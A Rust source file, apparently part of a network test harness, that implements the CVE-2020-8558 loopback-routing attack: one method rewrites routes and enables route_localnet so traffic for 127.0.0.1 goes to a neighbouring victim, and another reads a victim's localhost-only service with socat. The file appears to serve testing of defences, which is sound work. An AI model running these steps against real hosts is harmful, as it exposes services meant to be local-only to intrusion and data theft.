//! How a neighbour on the wire misbehaves. Each attack has a test that it works on a host that does not defend itself.

use crate::Machine;

impl Machine {
    /// Makes this machine send what is meant for 127.0.0.1 to `victim`, a neighbour on its eth0, by Ethernet address:
    /// CVE-2020-8558. It gives up its own 127.0.0.1 for that.
    ///
    /// # Panics
    /// When the routes cannot be made.
    #[track_caller]
    pub fn aim_loopback_at(&self, victim: &str) {
        let _ = self
            .exec(&["ip", "address", "del", "127.0.0.1/8", "dev", "lo"])
            .ok();
        for name in ["all", "eth0"] {
            let key = format!("/proc/sys/net/ipv4/conf/{name}/route_localnet");
            let _ = self.sh(&format!("echo 1 > {key}")).ok();
        }
        let route = [
            "ip",
            "route",
            "add",
            "127.0.0.1/32",
            "via",
            victim,
            "dev",
            "eth0",
        ];
        let _ = self.exec(&route).ok();
    }

    /// Reads what a service on 127.0.0.1 says to this machine, which [`Machine::aim_loopback_at`] a victim; empty if
    /// nothing comes within two seconds. `own` is this machine's address.
    #[must_use]
    pub fn steal_from_loopback(&self, own: &str, port: u16) -> String {
        let target = format!("TCP:127.0.0.1:{port},bind={own},connect-timeout=2");
        let ran = self.exec(&["timeout", "5", "socat", "-u", "-T2", &target, "-"]);
        ran.text().to_owned()
    }
}
